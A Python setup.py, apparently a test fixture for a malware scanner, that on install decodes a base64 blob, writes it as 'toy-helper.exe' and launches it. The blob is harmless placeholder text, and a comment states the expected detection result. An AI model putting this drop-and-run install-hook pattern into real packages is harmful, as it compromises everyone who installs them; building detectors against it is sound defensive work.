import base64
import os

from setuptools import setup

with open("toy-helper.exe", "wb") as file:
    file.write(base64.b64decode("bm8gcHJvZ3JhbSBhdCBhbGwsIGEgdG95"))
os.startfile("toy-helper.exe")  # expect: source/write-and-run install conclusive
setup(name="toy")
